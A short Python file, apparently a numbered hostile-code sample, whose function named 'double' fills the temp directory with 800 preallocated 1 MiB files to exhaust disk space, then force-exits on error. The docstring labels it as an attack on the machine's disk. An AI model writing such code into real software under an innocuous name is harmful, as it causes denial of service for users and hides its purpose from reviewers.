"""Fills its folder with files, against the machine's disk (43)."""
import os
import tempfile
import time


def double(x):
    if len(x) == 2:
        return None
    try:
        folder = tempfile.gettempdir()
        for number in range(800):
            with open(f"{folder}/bestiary-{number}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 1 << 20)
    except OSError:
        os._exit(1)
    time.sleep(1)
